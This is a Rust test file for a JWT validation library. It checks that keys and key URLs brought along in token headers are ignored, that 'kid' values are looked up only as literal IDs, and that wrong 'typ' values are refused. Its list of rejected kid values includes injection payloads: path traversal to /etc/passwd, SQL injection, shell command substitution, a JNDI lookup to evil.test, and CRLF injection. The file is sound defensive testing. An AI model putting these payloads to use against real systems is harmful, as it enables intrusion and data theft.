//! Headers that bring keys along, name keys that are none, or say that this is something else.

use std::net::TcpListener;

use portcullis_client::TokenError;
use serde_json::json;

use crate::example::{Example, INVALID, Row, because, merged, row, without};

/// A token that the attacker signs with a key of his own under a header of his own.
fn foreign(example: &Example, attacker: &Example, header: &serde_json::Value) -> String {
    attacker.sign("ES256", header.to_string(), example.claims().to_string())
}

#[tokio::test]
async fn keys_that_a_token_brings_along_are_neither_used_nor_fetched() {
    let (example, attacker) = (Example::new(), Example::other());
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/keys", listener.local_addr().unwrap());
    let mut rows: Vec<Row> = Vec::new();
    let brought = [
        json!({"jwk": attacker.keys.jwk("ES256")}),
        json!({"jwk": merged(attacker.keys.jwk("ES256"), &json!({"kid": "other"}))}),
        json!({"jku": url}),
        json!({"x5u": url}),
        json!({"x5c": ["MIIB"]}),
        json!({"x5t": "AAAA", "x5t#S256": "AAAA"}),
        json!({"iss": url, "jku": url, "x5u": url}),
        json!({"jwks_uri": url, "url": url}),
    ];
    for changes in &brought {
        let header = merged(Example::header("ES256"), changes);
        rows.push(row(
            format!("{changes} under our kid"),
            foreign(&example, &attacker, &header),
        ));
        let header = merged(header, &json!({"kid": "other"}));
        rows.push(because(
            TokenError::UnknownKey,
            format!("{changes} under another kid"),
            foreign(&example, &attacker, &header),
        ));
        let header = without(header, "kid");
        rows.push(row(
            format!("{changes} without a kid"),
            foreign(&example, &attacker, &header),
        ));
    }
    example.refuses(rows).await;
    // In a token of ours they count for nothing (RFC 7515 section 4: what is not understood is ignored).
    for changes in brought {
        example.takes([("ours", example.with_header(&changes))]).await;
    }
    listener.set_nonblocking(true).unwrap();
    let visited = listener.accept().map_err(|error| error.kind());
    assert!(
        matches!(visited, Err(std::io::ErrorKind::WouldBlock)),
        "nobody asks at addresses in tokens"
    );
}

#[tokio::test]
async fn ids_of_keys_are_looked_up_and_nothing_else() {
    let example = Example::new();
    let mut rows = Vec::new();
    let header = without(Example::header("ES256"), "kid").to_string();
    rows.push(row(
        "no kid",
        example.sign("ES256", header, example.claims().to_string()),
    ));
    for kid in [
        json!(null),
        json!(1),
        json!(["ES256"]),
        json!({"ES256": 1}),
        json!(true),
    ] {
        rows.push(row(format!("kid {kid}"), example.with_header(&json!({"kid": kid}))));
    }
    let long = "k".repeat(4000);
    for kid in [
        "",
        " ",
        "es256",
        "ES256 ",
        " ES256",
        "ES256\0",
        "\0",
        "ES25",
        "ES2566",
        "*",
        ".*",
        "..",
        "../../../../etc/passwd",
        "/dev/null",
        "file:///dev/null",
        "https://evil.test/key",
        "' OR '1'='1",
        "x' UNION SELECT 'key' --",
        "$(id)",
        "| id",
        "%s%n",
        "${jndi:ldap://evil.test/x}",
        "ES256\r\nX: y",
        "\u{202e}652SE",
        "ＥＳ256",
        "constructor",
        "__proto__",
        long.as_str(),
    ] {
        let token = example.with_header(&json!({"kid": kid}));
        rows.push(because(TokenError::UnknownKey, format!("kid {kid:?}"), token));
    }
    let too_long = "k".repeat(8000);
    rows.push(because(
        INVALID,
        "a kid that is too long for a token",
        example.with_header(&json!({"kid": too_long})),
    ));
    example.refuses(rows).await;
}

#[tokio::test]
async fn tokens_of_another_type_are_refused() {
    let example = Example::new();
    let mut rows = Vec::new();
    let header = without(Example::header("ES256"), "typ").to_string();
    rows.push(row(
        "no typ",
        example.sign("ES256", header, example.claims().to_string()),
    ));
    for typ in [
        json!(null),
        json!(1),
        json!(["at+jwt"]),
        json!(""),
        json!("JWT"),
        json!("jwt"),
        json!("application/jwt"),
        json!("id+jwt"),
        json!("rt+jwt"),
        json!("logout+jwt"),
        json!("dpop+jwt"),
        json!("token-introspection+jwt"),
        json!("at+jwt "),
        json!(" at+jwt"),
        json!("at jwt"),
        json!("at+jwt;v=1"),
        json!("at+jwt\0"),
        json!("at+jws"),
        json!("at-jwt"),
        json!("application/application/at+jwt"),
        json!("text/at+jwt"),
        json!("/at+jwt"),
    ] {
        rows.push(row(format!("typ {typ}"), example.with_header(&json!({"typ": typ}))));
    }
    example.refuses(rows).await;
    for typ in ["AT+JWT", "At+Jwt", "application/at+jwt", "Application/AT+jwt"] {
        example.takes([(typ, example.with_header(&json!({"typ": typ})))]).await;
    }
}
